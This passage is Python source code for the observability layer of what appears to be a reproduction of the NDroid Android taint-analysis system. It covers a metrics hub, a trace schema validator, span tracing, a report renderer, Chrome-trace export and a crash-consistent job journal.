                "crossings_fast": jni.crossings_fast,
                "crossings_slow": jni.crossings_slow,
            }
            values.update(persist_counters("jni", "trampoline.persist"))
            return values

        self.metrics.register_source("jni", jni_source,
                                     gauges=("trampoline.cached",))
        self._propagate()

    def wire_ndroid(self, ndroid) -> None:
        """Register the analysis-side (core + resilience) sources."""
        self._ndroid = ndroid

        def core_source():
            values = dict(ndroid.statistics())
            values.pop("degraded_events", None)
            values.pop("quarantined_hooks", None)
            for name, count in getattr(ndroid, "hook_invocations",
                                       {}).items():
                values[f"hook.{name}"] = count
            return values

        def resilience_source():
            values = {
                "degraded_events": ndroid.degraded_events,
                "quarantined_hooks": len(ndroid.quarantined_hooks),
            }
            for name in sorted(ndroid.quarantined_hooks):
                values[f"quarantined.{name}"] = 1
            return values

        self.metrics.register_source("core", core_source)
        self.metrics.register_source("resilience", resilience_source)
        self._propagate()

    def _propagate(self) -> None:
        """Push the current ledger/profiler into every wired engine."""
        platform, ndroid = self._platform, self._ndroid
        if platform is not None:
            platform.kernel.ledger = self.ledger
            platform.vm.ledger = self.ledger
            platform.libc.ledger = self.ledger
            platform.emu.profiler = self.profiler
        if ndroid is not None:
            ndroid.instruction_tracer.ledger = self.ledger
            ndroid.dvm_hooks.ledger = self.ledger
            ndroid.syslib_hooks.ledger = self.ledger

    # -- convenience -----------------------------------------------------------

    def attach_spans(self, tracer: Optional[SpanTracer]) -> None:
        """Point the wired engines' span hooks at ``tracer`` (None detaches)."""
        self.spans = tracer
        if self._platform is not None:
            attach_spans(self._platform, tracer)

    def snapshot(self):
        return self.metrics.snapshot()

    def resolver(self) -> SymbolResolver:
        if self._platform is None:
            return SymbolResolver()
        return SymbolResolver.from_platform(self._platform)
