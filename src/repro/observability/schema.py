"""Hand-rolled validation for the JSONL trace format (no external deps).

One trace record per line::

    {"seq": 12, "tag": 2, "mechanism": "jni:GetStringUTFChars",
     "location": "0x60000010",
     "src": {"kind": "iref", "base": 4259841, "len": 0, "name": ""},
     "dst": {"kind": "mem", "base": 1627390720, "len": 13, "name": ""}}

CI's observability-smoke job validates every line of an ephone trace
against this before uploading it as an artifact.
"""

from __future__ import annotations

import json
from typing import Dict, Iterable, List, Tuple, Union

from repro.observability.ledger import LOC_KINDS

TRACE_SCHEMA = "ndroid_trace/v1"

_EDGE_FIELDS = {"seq": int, "tag": int, "mechanism": str, "location": str,
                "src": dict, "dst": dict}
_LOC_FIELDS = {"kind": str, "base": int, "len": int, "name": str}


def _validate_loc(loc: Dict, where: str) -> List[str]:
    errors = []
    for field, kind in _LOC_FIELDS.items():
        if field not in loc:
            errors.append(f"{where}: missing {field!r}")
        elif not isinstance(loc[field], kind) or isinstance(loc[field], bool):
            errors.append(f"{where}.{field}: expected {kind.__name__}, "
                          f"got {type(loc[field]).__name__}")
    kind_value = loc.get("kind")
    if isinstance(kind_value, str) and kind_value not in LOC_KINDS:
        errors.append(f"{where}.kind: unknown kind {kind_value!r}")
    return errors


def validate_record(record: Dict) -> List[str]:
    """Errors for one parsed trace record (empty list = valid)."""
    errors = []
    for field, kind in _EDGE_FIELDS.items():
        if field not in record:
            errors.append(f"missing {field!r}")
        elif not isinstance(record[field], kind) or \
                isinstance(record[field], bool):
            errors.append(f"{field}: expected {kind.__name__}, "
                          f"got {type(record[field]).__name__}")
    if isinstance(record.get("seq"), int) and record["seq"] < 0:
        errors.append("seq: must be >= 0")
    if isinstance(record.get("tag"), int) and record["tag"] <= 0:
        errors.append("tag: must be a non-clear label (> 0)")
    if isinstance(record.get("mechanism"), str) and not record["mechanism"]:
        errors.append("mechanism: must be non-empty")
    for side in ("src", "dst"):
        if isinstance(record.get(side), dict):
            errors.extend(_validate_loc(record[side], side))
    return errors


def validate_lines(lines: Iterable[str],
                   max_errors: int = 20) -> Tuple[int, List[str]]:
    """Validate raw JSONL lines; returns (record_count, errors)."""
    count = 0
    errors: List[str] = []
    for number, line in enumerate(lines, start=1):
        line = line.strip()
        if not line:
            continue
        count += 1
        try:
            record = json.loads(line)
        except ValueError as error:
            errors.append(f"line {number}: not JSON ({error})")
        else:
            if not isinstance(record, dict):
                errors.append(f"line {number}: expected an object")
            else:
                errors.extend(f"line {number}: {text}"
                              for text in validate_record(record))
        if len(errors) >= max_errors:
            errors.append("... (further errors suppressed)")
            break
    return count, errors


def validate_trace(source: Union[str, Iterable[str]],
                   max_errors: int = 20) -> Tuple[int, List[str]]:
    """Validate a trace file path or an iterable of lines."""
    if isinstance(source, str):
        with open(source) as handle:
            return validate_lines(handle, max_errors=max_errors)
    return validate_lines(source, max_errors=max_errors)
