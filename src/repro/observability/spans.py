"""Structured span/event tracing: the fleet's flight recorder.

A :class:`SpanTracer` records *where time goes* — the temporal half of
the paper's evaluation that the provenance ledger (what flowed where)
cannot answer.  Three record shapes, one stream:

``B``/``E`` (span begin/end)
    A duration with a name, a category (``scheduler`` / ``worker`` /
    ``engine``), and a **trace id** correlating every record that serves
    the same farm job across process boundaries.  Begin records are
    written to the spool *at begin time*, so a SIGKILLed worker leaves
    evidence of what it was doing — the aggregator renders the
    unmatched begin as an explicit open-span marker, never an error.

``i`` (instant event)
    A point in time (a retry decision, a variant escalation, a cache
    flush).

``C`` (counter sample)
    A named value at a point in time (cache hit totals at job end),
    rendered by Chrome's trace viewer as a counter track.

Two sinks, both bounded in cost:

* the **flight recorder** — an in-memory ``deque(maxlen=capacity)`` of
  the most recent records with a ``dropped`` tally, cheap enough to
  keep during any run and read by the live farm console;
* an optional **spool** (:class:`repro.observability.flight.FlightSpool`)
  — an append-only, flush-per-record JSONL file whose reader tolerates
  the torn tail a SIGKILL leaves, exactly like ``farm/journal.py``.

Zero-cost discipline (PR 3): engines hold a ``span_tracer`` attribute
that stays ``None`` when tracing is off; every hot-path emit sits behind
one ``is not None`` check, and the <3% disabled-overhead CI gate covers
the layer.  Timestamps are wall-clock microseconds (``time.time()``),
the only clock comparable across forked processes.
"""

from __future__ import annotations

import os
import threading
import time
from collections import deque
from contextlib import contextmanager
from typing import Dict, Iterator, List, Optional

SPAN_SCHEMA = "ndroid_spans/v1"

# Record categories (the span taxonomy's top level).
CATEGORIES = ("scheduler", "worker", "engine", "farm")


def now_us() -> float:
    """Wall-clock microseconds — comparable across forked processes."""
    return time.time() * 1e6


class SpanTracer:
    """Bounded in-memory flight recorder plus an optional JSONL spool.

    One tracer per process (the scheduler owns one; each forked worker
    opens its own after the fork, so no file descriptor is shared).
    ``trace_id`` is mutable: the inline (serial) scheduler re-points it
    at each job's id so engine records still correlate.
    """

    def __init__(self, spool=None, capacity: int = 4096,
                 trace_id: str = "") -> None:
        self.spool = spool
        self.capacity = capacity
        self.records: deque = deque(maxlen=capacity)
        self.dropped = 0
        self.trace_id = trace_id
        self.pid = os.getpid()
        self._seq = 0
        self._lock = threading.Lock()
        # Open-span stack per thread, for parent attribution.
        self._stacks: Dict[int, List[int]] = {}
        self.spans_begun = 0
        self.spans_ended = 0
        self.events_emitted = 0
        self.counters_emitted = 0

    # -- plumbing ---------------------------------------------------------

    @staticmethod
    def now() -> float:
        return now_us()

    def _emit(self, record: Dict) -> None:
        if len(self.records) == self.capacity:
            self.dropped += 1
        self.records.append(record)
        spool = self.spool
        if spool is not None:
            spool.write(record)

    def _next_id(self) -> int:
        with self._lock:
            self._seq += 1
            return self._seq

    def _stack(self) -> List[int]:
        ident = threading.get_ident()
        stack = self._stacks.get(ident)
        if stack is None:
            stack = self._stacks[ident] = []
        return stack

    # -- spans ------------------------------------------------------------

    def begin(self, name: str, cat: str = "worker",
              trace: Optional[str] = None, detached: bool = False,
              **args) -> int:
        """Open a span; returns its id for :meth:`end`.

        The begin record hits the spool immediately — that is the crash
        evidence an aggregated timeline replays as an open span.
        ``detached`` spans skip the per-thread nesting stack: use it for
        spans that overlap arbitrarily (the scheduler's concurrent job
        spans) rather than nest.
        """
        span_id = self._next_id()
        record = {
            "ph": "B", "ts": now_us(), "pid": self.pid, "span": span_id,
            "name": name, "cat": cat,
            "trace": self.trace_id if trace is None else trace,
        }
        if not detached:
            stack = self._stack()
            if stack:
                record["parent"] = stack[-1]
            stack.append(span_id)
        if args:
            record["args"] = args
        self.spans_begun += 1
        self._emit(record)
        return span_id

    def end(self, span_id: int, **args) -> None:
        record = {"ph": "E", "ts": now_us(), "pid": self.pid,
                  "span": span_id}
        if args:
            record["args"] = args
        stack = self._stack()
        if span_id in stack:
            del stack[stack.index(span_id):]
        self.spans_ended += 1
        self._emit(record)

    @contextmanager
    def span(self, name: str, cat: str = "worker",
             trace: Optional[str] = None, **args) -> Iterator[int]:
        span_id = self.begin(name, cat=cat, trace=trace, **args)
        try:
            yield span_id
        finally:
            self.end(span_id)

    def complete(self, name: str, start_us: float, cat: str = "engine",
                 trace: Optional[str] = None, **args) -> None:
        """One finished span as a single record (engine hot paths).

        Cheaper than begin+end — one record, no stack work — for spans
        that cannot be torn (they complete before control returns).
        """
        record = {
            "ph": "X", "ts": start_us, "dur": max(0.0, now_us() - start_us),
            "pid": self.pid, "name": name, "cat": cat,
            "trace": self.trace_id if trace is None else trace,
        }
        if args:
            record["args"] = args
        self.spans_begun += 1
        self.spans_ended += 1
        self._emit(record)

    # -- instants / counters ----------------------------------------------

    def event(self, name: str, cat: str = "worker",
              trace: Optional[str] = None, **args) -> None:
        record = {
            "ph": "i", "ts": now_us(), "pid": self.pid, "name": name,
            "cat": cat,
            "trace": self.trace_id if trace is None else trace,
        }
        if args:
            record["args"] = args
        self.events_emitted += 1
        self._emit(record)

    def counter(self, name: str, value, cat: str = "worker",
                trace: Optional[str] = None) -> None:
        record = {
            "ph": "C", "ts": now_us(), "pid": self.pid, "name": name,
            "cat": cat, "value": value,
            "trace": self.trace_id if trace is None else trace,
        }
        self.counters_emitted += 1
        self._emit(record)

    # -- introspection -----------------------------------------------------

    def in_flight(self) -> List[int]:
        """Span ids currently open across every thread."""
        return [span_id for stack in self._stacks.values()
                for span_id in stack]

    def statistics(self) -> Dict[str, int]:
        return {
            "spans_begun": self.spans_begun,
            "spans_ended": self.spans_ended,
            "events": self.events_emitted,
            "counters": self.counters_emitted,
            "recorded": len(self.records),
            "dropped": self.dropped,
        }

    def close(self) -> None:
        if self.spool is not None:
            self.spool.close()


def attach_spans(platform, tracer: Optional[SpanTracer]) -> None:
    """Point every engine's ``span_tracer`` attribute at ``tracer``.

    Passing ``None`` detaches.  The engines only ever do one
    ``is not None`` check per emit site, so a detached platform pays
    a single attribute read on the cold paths and nothing per
    instruction.
    """
    platform.emu.span_tracer = tracer
    platform.jni.span_tracer = tracer
    if platform.vm.tbc is not None:
        platform.vm.tbc.span_tracer = tracer
    observability = getattr(platform, "observability", None)
    if observability is not None:
        observability.spans = tracer
