"""``repro report``: render run artifacts into the paper's tables/figures.

Consumes the artifact directory ``repro run`` writes (``meta.json``,
``metrics.json``, ``metrics_baseline.json``, ``leaks.json``, and — when
traced — ``trace.jsonl`` and ``profile.folded``) and renders:

* the reconstructed source→sink provenance path per leak (the Section V
  case-study walks);
* a Table IV-style overhead breakdown: instrumented-run counters against
  the vanilla baseline of the same scenario;
* a Table V-style analysis-work breakdown (tracer/hook/ledger counters
  that have no vanilla equivalent);
* the resilience section (degraded events, quarantined hooks);
* the profiler's heaviest guest functions.
"""

from __future__ import annotations

import json
import os
from typing import Dict, List, Optional, Tuple

from repro.observability.ledger import ProvenanceLedger
from repro.observability.metrics import diff_snapshots
from repro.observability.schema import validate_trace

# Subsystem counters compared against the vanilla baseline (Table IV).
OVERHEAD_PREFIXES = ("dalvik.", "emulator.", "kernel.")
# Analysis-only counters rendered without a baseline column (Table V).
ANALYSIS_PREFIXES = ("core.", "resilience.", "ledger.")

TOP_PROFILE_FRAMES = 10


class RunArtifacts:
    """Everything ``repro run`` left in one output directory."""

    def __init__(self, directory: str) -> None:
        self.directory = directory
        self.meta = self._load_json("meta.json") or {}
        self.metrics = self._load_json("metrics.json") or {}
        self.baseline = self._load_json("metrics_baseline.json") or {}
        self.leaks = self._load_json("leaks.json") or []
        self.trace_path = os.path.join(directory, "trace.jsonl")
        self.ledger: Optional[ProvenanceLedger] = None
        if os.path.exists(self.trace_path):
            try:
                self.ledger = ProvenanceLedger.from_jsonl(self.trace_path)
            except (KeyError, TypeError, ValueError):
                # Malformed trace: keep an empty ledger so the schema
                # validator reports the damage instead of a crash.
                self.ledger = ProvenanceLedger()
        self.folded: List[str] = []
        folded_path = os.path.join(directory, "profile.folded")
        if os.path.exists(folded_path):
            with open(folded_path) as handle:
                self.folded = [line.rstrip("\n") for line in handle
                               if line.strip()]

    def _load_json(self, name: str):
        path = os.path.join(self.directory, name)
        if not os.path.exists(path):
            return None
        with open(path) as handle:
            return json.load(handle)

    def validate_trace(self) -> Tuple[int, List[str]]:
        if not os.path.exists(self.trace_path):
            return 0, []
        return validate_trace(self.trace_path)


def _format_value(value) -> str:
    if value is None:
        return "-"
    if isinstance(value, float):
        return f"{value:,.1f}"
    return f"{value:,}"


def render_overhead_table(current: Dict, baseline: Dict,
                          title: str = "overhead vs vanilla baseline"
                          ) -> str:
    """The Table IV-style two-run comparison."""
    lines = [f"== {title} ==",
             f"  {'metric':<36} {'vanilla':>14} {'instrumented':>14} "
             f"{'ratio':>8}"]
    for name, base, cur, ratio in diff_snapshots(current, baseline):
        if not name.startswith(OVERHEAD_PREFIXES):
            continue
        ratio_text = f"{ratio:,.2f}x" if ratio is not None else "-"
        lines.append(f"  {name:<36} {_format_value(base):>14} "
                     f"{_format_value(cur):>14} {ratio_text:>8}")
    return "\n".join(lines)


def render_analysis_table(current: Dict) -> str:
    """The Table V-style analysis-work breakdown (no vanilla analogue)."""
    lines = ["== analysis work (instrumented run only) ==",
             f"  {'metric':<44} {'value':>14}"]
    for name in sorted(current):
        if name.startswith(ANALYSIS_PREFIXES):
            lines.append(f"  {name:<44} {_format_value(current[name]):>14}")
    return "\n".join(lines)


def render_resilience(current: Dict) -> str:
    quarantined = sorted(
        name[len("resilience.quarantined."):]
        for name in current if name.startswith("resilience.quarantined."))
    degraded = current.get("resilience.degraded_events", 0)
    lines = ["== resilience ==",
             f"  degraded events:   {degraded}",
             f"  quarantined hooks: "
             f"{', '.join(quarantined) if quarantined else '(none)'}"]
    return "\n".join(lines)


def render_provenance(ledger: ProvenanceLedger, leaks: List[Dict]) -> str:
    lines = ["== provenance (source -> sink) =="]
    rendered = 0
    for leak in leaks:
        path = ledger.reconstruct(taint=leak.get("taint", 0),
                                  destination=leak.get("destination"))
        if not path:
            continue
        rendered += 1
        marker = " (PARTIAL: truncated at eviction horizon)" \
            if getattr(path, "at_horizon", False) else ""
        lines.append(f"leak: {leak.get('sink')} -> "
                     f"{leak.get('destination')} "
                     f"taint=0x{leak.get('taint', 0):x} "
                     f"[{leak.get('detector')}]{marker}")
        lines.append(ledger.format_path(path))
    if not leaks:
        lines.append("  (no leaks reported)")
    elif not rendered:
        lines.append("  (no ledger path matches the reported leaks)")
    return "\n".join(lines)


def render_profile(folded: List[str]) -> str:
    lines = [f"== profile (top {TOP_PROFILE_FRAMES} guest frames) =="]
    if not folded:
        lines.append("  (no samples)")
    for line in folded[:TOP_PROFILE_FRAMES]:
        lines.append(f"  {line}")
    return "\n".join(lines)


def render_report(artifacts: RunArtifacts) -> Tuple[str, bool]:
    """The full report text plus a validity flag (trace schema)."""
    meta = artifacts.meta
    sections = [f"== run ==\n"
                f"  scenario: {meta.get('scenario', '?')}\n"
                f"  config:   {meta.get('config', '?')}"]
    ok = True
    if artifacts.ledger is not None:
        count, errors = artifacts.validate_trace()
        if errors:
            ok = False
            sections.append("== trace ==\n  SCHEMA INVALID:\n" +
                            "\n".join(f"    {e}" for e in errors))
        else:
            sections.append(f"== trace ==\n  {count} edges, schema ok "
                            f"({os.path.basename(artifacts.trace_path)})")
        sections.append(render_provenance(artifacts.ledger,
                                          artifacts.leaks))
    if artifacts.baseline:
        sections.append(render_overhead_table(artifacts.metrics,
                                              artifacts.baseline))
    if artifacts.metrics:
        sections.append(render_analysis_table(artifacts.metrics))
        sections.append(render_resilience(artifacts.metrics))
    if artifacts.ledger is not None:
        sections.append(render_profile(artifacts.folded))
    return "\n\n".join(sections) + "\n", ok
