"""Flight-recorder spools and the fleet timeline aggregator.

The write side (:class:`FlightSpool`) is a per-process append-only JSONL
file, one span record per line, flushed per record so a SIGKILL loses at
most the line being written.  The read side is torn-tail tolerant in the
same way ``farm/journal.iter_events`` is: a truncated or garbled final
line is skipped, never raised, because a killed worker *will* leave one.

The aggregator stitches every spool under a trace directory into one
fleet timeline:

* :func:`build_timeline` pairs ``B``/``E`` records into finished spans
  and renders unmatched begins as **open spans** (``"open": True``) whose
  duration runs to the last timestamp that process ever wrote — the
  honest answer for a worker that died mid-span;
* :func:`to_chrome_trace` exports Chrome trace-event JSON
  (Perfetto-loadable): ``X`` complete events, ``i`` instants, ``C``
  counters, plus ``M`` process-name metadata so each farm process gets a
  labelled track;
* :func:`render_timeline` prints a text timeline for terminals and CI
  logs;
* :func:`validate_chrome_trace` is the no-dependency schema check CI
  runs against the exported file.

Timestamps are wall-clock µs from :func:`repro.observability.spans.now_us`
and are rebased so the earliest record across the fleet sits at t=0.
"""

from __future__ import annotations

import json
import os
from typing import Dict, Iterable, Iterator, List, Optional, Tuple

SPOOL_SUFFIX = ".jsonl"

# Chrome trace-event phases this exporter produces / the validator admits.
CHROME_PHASES = ("X", "i", "C", "M")


class FlightSpool:
    """Append-only JSONL span spool, flushed per record.

    Unlike the run journal there is no fsync: spools are diagnostics,
    not the source of truth for job state, so losing the OS buffer on a
    power cut is acceptable — but a plain SIGKILL (the common chaos
    case) loses nothing beyond a possibly-torn final line.
    """

    def __init__(self, path: str) -> None:
        self.path = path
        parent = os.path.dirname(path)
        if parent:
            os.makedirs(parent, exist_ok=True)
        self._fh = open(path, "a", encoding="utf-8")
        self.records_written = 0

    def write(self, record: Dict) -> None:
        self._fh.write(json.dumps(record, sort_keys=True,
                                  separators=(",", ":")) + "\n")
        self._fh.flush()
        self.records_written += 1

    def close(self) -> None:
        if not self._fh.closed:
            self._fh.close()

    def __enter__(self) -> "FlightSpool":
        return self

    def __exit__(self, *exc) -> None:
        self.close()


def read_spool(path: str) -> Iterator[Dict]:
    """Yield records from a spool, skipping a torn or garbled tail.

    A record must parse as a JSON object with ``ph`` and ``ts`` to be
    yielded; anything else (half-written line, empty line, stray text)
    is dropped silently — the whole point is to read spools that a
    SIGKILL interrupted.
    """
    try:
        fh = open(path, "r", encoding="utf-8")
    except OSError:
        return
    with fh:
        for line in fh:
            line = line.strip()
            if not line:
                continue
            try:
                record = json.loads(line)
            except ValueError:
                continue
            if isinstance(record, dict) and "ph" in record and "ts" in record:
                yield record


def collect_spools(trace_dir: str) -> List[Dict]:
    """Read every ``*.jsonl`` spool under ``trace_dir``, merged and
    time-sorted.  Missing directory -> empty list."""
    records: List[Dict] = []
    try:
        names = sorted(os.listdir(trace_dir))
    except OSError:
        return records
    for name in names:
        if not name.endswith(SPOOL_SUFFIX):
            continue
        records.extend(read_spool(os.path.join(trace_dir, name)))
    records.sort(key=lambda r: (r.get("ts", 0.0), r.get("pid", 0)))
    return records


def build_timeline(records: Iterable[Dict]) -> Dict:
    """Pair begin/end records into spans; surface instants and counters.

    Returns ``{"spans": [...], "events": [...], "counters": [...],
    "open_spans": int, "base_ts": float}``.  Span dicts carry ``name``,
    ``cat``, ``trace``, ``pid``, ``ts`` (µs, rebased), ``dur`` (µs),
    ``args``, and ``"open": True`` when the end record never arrived —
    its duration then runs to the last timestamp its process wrote, so
    a killed worker's final act is visible rather than invented.
    """
    records = list(records)
    base_ts = min((r["ts"] for r in records), default=0.0)
    last_ts_by_pid: Dict[int, float] = {}
    for record in records:
        pid = record.get("pid", 0)
        ts = record["ts"]
        if ts > last_ts_by_pid.get(pid, 0.0):
            last_ts_by_pid[pid] = ts

    spans: List[Dict] = []
    events: List[Dict] = []
    counters: List[Dict] = []
    # Begun-but-not-ended spans keyed per process: span ids are only
    # unique within the tracer (= process) that minted them.
    pending: Dict[Tuple[int, int], Dict] = {}

    for record in records:
        ph = record["ph"]
        pid = record.get("pid", 0)
        if ph == "B":
            span = {
                "name": record.get("name", "?"),
                "cat": record.get("cat", "worker"),
                "trace": record.get("trace", ""),
                "pid": pid,
                "ts": record["ts"] - base_ts,
                "args": dict(record.get("args", ())),
            }
            if "parent" in record:
                span["parent"] = record["parent"]
            pending[(pid, record.get("span", 0))] = span
            spans.append(span)
        elif ph == "E":
            span = pending.pop((pid, record.get("span", 0)), None)
            if span is None:
                continue  # end without a begin: its spool head rolled off
            span["dur"] = max(0.0, (record["ts"] - base_ts) - span["ts"])
            if record.get("args"):
                span["args"].update(record["args"])
        elif ph == "X":
            spans.append({
                "name": record.get("name", "?"),
                "cat": record.get("cat", "engine"),
                "trace": record.get("trace", ""),
                "pid": pid,
                "ts": record["ts"] - base_ts,
                "dur": record.get("dur", 0.0),
                "args": dict(record.get("args", ())),
            })
        elif ph == "i":
            events.append({
                "name": record.get("name", "?"),
                "cat": record.get("cat", "worker"),
                "trace": record.get("trace", ""),
                "pid": pid,
                "ts": record["ts"] - base_ts,
                "args": dict(record.get("args", ())),
            })
        elif ph == "C":
            counters.append({
                "name": record.get("name", "?"),
                "cat": record.get("cat", "worker"),
                "trace": record.get("trace", ""),
                "pid": pid,
                "ts": record["ts"] - base_ts,
                "value": record.get("value", 0),
            })

    open_spans = 0
    for (pid, _), span in pending.items():
        span["open"] = True
        tail = last_ts_by_pid.get(pid, base_ts) - base_ts
        span["dur"] = max(0.0, tail - span["ts"])
        open_spans += 1

    spans.sort(key=lambda s: (s["ts"], s["pid"]))
    return {
        "spans": spans,
        "events": events,
        "counters": counters,
        "open_spans": open_spans,
        "base_ts": base_ts,
    }


def _process_label(pid: int, spans: Iterable[Dict]) -> str:
    cats = {s["cat"] for s in spans if s["pid"] == pid}
    if "scheduler" in cats:
        return f"scheduler [{pid}]"
    if cats & {"worker", "engine"}:
        return f"worker [{pid}]"
    return f"process [{pid}]"


def to_chrome_trace(timeline: Dict) -> Dict:
    """Render a :func:`build_timeline` result as Chrome trace-event JSON.

    Open spans are exported as complete (``X``) events flagged with
    ``args.open`` so they stay visible in Perfetto rather than
    vanishing as unbalanced begins.
    """
    trace_events: List[Dict] = []
    pids = sorted({s["pid"] for s in timeline["spans"]}
                  | {e["pid"] for e in timeline["events"]}
                  | {c["pid"] for c in timeline["counters"]})
    for pid in pids:
        trace_events.append({
            "ph": "M", "name": "process_name", "pid": pid, "tid": 0,
            "args": {"name": _process_label(pid, timeline["spans"])},
        })
    for span in timeline["spans"]:
        args = dict(span["args"])
        if span.get("trace"):
            args["trace"] = span["trace"]
        if span.get("open"):
            args["open"] = True
        trace_events.append({
            "ph": "X", "name": span["name"], "cat": span["cat"],
            "pid": span["pid"], "tid": 0,
            "ts": span["ts"], "dur": span.get("dur", 0.0),
            "args": args,
        })
    for event in timeline["events"]:
        args = dict(event["args"])
        if event.get("trace"):
            args["trace"] = event["trace"]
        trace_events.append({
            "ph": "i", "name": event["name"], "cat": event["cat"],
            "pid": event["pid"], "tid": 0, "ts": event["ts"],
            "s": "p", "args": args,
        })
    for counter in timeline["counters"]:
        trace_events.append({
            "ph": "C", "name": counter["name"], "cat": counter["cat"],
            "pid": counter["pid"], "tid": 0, "ts": counter["ts"],
            "args": {"value": counter["value"]},
        })
    return {"traceEvents": trace_events,
            "displayTimeUnit": "ms",
            "otherData": {"schema": "ndroid_spans/v1"}}


def render_timeline(timeline: Dict, width: int = 72) -> str:
    """A text timeline: one bar per span, grouped by process."""
    spans = timeline["spans"]
    lines = ["== fleet timeline =="]
    if not spans:
        lines.append("(no spans recorded)")
        return "\n".join(lines)
    horizon = max(s["ts"] + s.get("dur", 0.0) for s in spans)
    horizon = max(horizon, 1.0)
    scale = width / horizon
    by_pid: Dict[int, List[Dict]] = {}
    for span in spans:
        by_pid.setdefault(span["pid"], []).append(span)
    lines.append(f"{len(spans)} spans over {horizon / 1e3:.1f} ms, "
                 f"{timeline['open_spans']} left open")
    for pid in sorted(by_pid):
        lines.append(f"-- {_process_label(pid, spans)} --")
        for span in by_pid[pid]:
            start = int(span["ts"] * scale)
            length = max(1, int(span.get("dur", 0.0) * scale))
            length = min(length, width - start) or 1
            bar = " " * start + "#" * length
            marker = " OPEN" if span.get("open") else ""
            trace = f" [{span['trace']}]" if span.get("trace") else ""
            lines.append(f"  {bar:<{width}}  {span['cat']}:{span['name']}"
                         f"{trace} {span.get('dur', 0.0) / 1e3:.2f}ms"
                         f"{marker}")
    return "\n".join(lines)


def validate_chrome_trace(trace: Dict) -> List[str]:
    """Schema check for the exported Chrome trace.  Returns problems.

    Hand-rolled on purpose (no jsonschema dependency in the image),
    mirroring ``observability/schema.validate_trace``.
    """
    errors: List[str] = []
    if not isinstance(trace, dict):
        return ["trace is not an object"]
    events = trace.get("traceEvents")
    if not isinstance(events, list):
        return ["traceEvents is not a list"]
    for index, event in enumerate(events):
        where = f"traceEvents[{index}]"
        if not isinstance(event, dict):
            errors.append(f"{where}: not an object")
            continue
        ph = event.get("ph")
        if ph not in CHROME_PHASES:
            errors.append(f"{where}: bad phase {ph!r}")
            continue
        if not isinstance(event.get("name"), str) or not event["name"]:
            errors.append(f"{where}: missing name")
        if not isinstance(event.get("pid"), int):
            errors.append(f"{where}: missing pid")
        if ph != "M":
            ts = event.get("ts")
            if not isinstance(ts, (int, float)) or ts < 0:
                errors.append(f"{where}: bad ts {ts!r}")
        if ph == "X":
            dur = event.get("dur")
            if not isinstance(dur, (int, float)) or dur < 0:
                errors.append(f"{where}: bad dur {dur!r}")
        if ph == "C":
            args = event.get("args")
            if not isinstance(args, dict) or "value" not in args:
                errors.append(f"{where}: counter without value")
    return errors


def aggregate_trace_dir(trace_dir: str) -> Dict:
    """collect_spools + build_timeline in one call (the common path)."""
    return build_timeline(collect_spools(trace_dir))


def write_trace_artifacts(trace_dir: str,
                          out_dir: Optional[str] = None) -> Dict[str, str]:
    """Aggregate a trace directory into ``trace.json`` (Chrome) and
    ``timeline.txt`` (text), returning the artifact paths."""
    out_dir = out_dir or trace_dir
    os.makedirs(out_dir, exist_ok=True)
    timeline = aggregate_trace_dir(trace_dir)
    chrome = to_chrome_trace(timeline)
    trace_path = os.path.join(out_dir, "trace.json")
    with open(trace_path, "w", encoding="utf-8") as fh:
        json.dump(chrome, fh, indent=1, sort_keys=True)
        fh.write("\n")
    text_path = os.path.join(out_dir, "timeline.txt")
    with open(text_path, "w", encoding="utf-8") as fh:
        fh.write(render_timeline(timeline) + "\n")
    return {"trace": trace_path, "timeline": text_path}
