"""The crash-consistent run journal: a write-ahead log of job state.

Every farm run appends its job state transitions to one JSONL file::

    run_start   -> a scheduler (re)started over this manifest
    cached      -> a job replayed from the result store (terminal)
    dispatched  -> a job handed to a worker (records attempt + pid)
    strike      -> the worker serving a job was reclaimed (died / hung /
                   over deadline / committed a torn result)
    retry       -> a struck job requeued with a backoff delay
    done        -> a worker result accepted (terminal)
    poison      -> a job quarantined after striking out (terminal)
    lost        -> retries exhausted below the poison threshold (terminal)
    interrupted -> an in-flight job abandoned by a clean drain
    run_end     -> the scheduler finished normally

Each line is flushed **and fsync'd** before the transition it describes
takes effect, which is what makes the scheduler itself a restartable
unit: SIGKILL it mid-run and the journal still tells the resume run
which jobs were in flight, how many attempts each had consumed, and —
crucially — how many workers each job has killed, so a poison job's
strike count survives scheduler death and the job is quarantined after
K strikes *total*, not K strikes per scheduler lifetime.

The reader side tolerates exactly the damage a SIGKILL can cause: a
torn final line (the write that was in flight when the process died)
is skipped, never fatal.
"""

from __future__ import annotations

import json
import os
from dataclasses import dataclass, field
from typing import Dict, Iterator, List, Optional

# Events that end a job's life within one run segment.
TERMINAL_EVENTS = ("cached", "done", "poison", "lost")


class RunJournal:
    """Append-only JSONL journal for one run directory.

    ``checkpoint_interval=1`` (the default) fsyncs every record — the
    write-ahead discipline the per-job scheduler depends on.  Streaming
    corpus runs, where a "job" is thousands of cheap chunk records and
    durability is carried by shard-level atomic commits, pass a larger
    interval: every record is still flushed to the OS immediately, but
    the fsync barrier lands once per ``checkpoint_interval`` records
    (and always on :meth:`checkpoint` and :meth:`close`).  The worst a
    power loss can cost is the records since the last checkpoint, all of
    which describe work the shard commit protocol re-derives.
    """

    def __init__(self, path: str, checkpoint_interval: int = 1) -> None:
        self.path = path
        self.checkpoint_interval = max(1, checkpoint_interval)
        self._pending = 0
        parent = os.path.dirname(path)
        if parent:
            os.makedirs(parent, exist_ok=True)
        self._handle = open(path, "a")

    def record(self, event: str, **fields) -> None:
        line = json.dumps({"event": event, **fields}, sort_keys=True)
        self._handle.write(line + "\n")
        self._handle.flush()
        self._pending += 1
        if self._pending >= self.checkpoint_interval:
            self.checkpoint()

    def checkpoint(self) -> None:
        """Force the fsync barrier for everything recorded so far."""
        if self._handle.closed:
            return
        os.fsync(self._handle.fileno())
        self._pending = 0

    def close(self) -> None:
        if not self._handle.closed:
            if self._pending:
                self.checkpoint()
            self._handle.close()

    def __enter__(self) -> "RunJournal":
        return self

    def __exit__(self, *exc) -> None:
        self.close()


def iter_events(path: str) -> Iterator[Dict]:
    """Yield journal events, skipping any torn (half-written) lines."""
    try:
        handle = open(path)
    except FileNotFoundError:
        return
    with handle:
        for line in handle:
            line = line.strip()
            if not line:
                continue
            try:
                event = json.loads(line)
            except ValueError:
                # The write the dying scheduler never finished.
                continue
            if isinstance(event, dict) and "event" in event:
                yield event


@dataclass
class JobLedger:
    """Everything the journal knows about one job digest."""

    attempts: int = 0            # dispatches, summed across run segments
    strikes: int = 0             # workers this job has killed, ever
    terminal: Optional[str] = None   # last terminal event, if any
    in_flight: bool = False      # dispatched with no later resolution


@dataclass
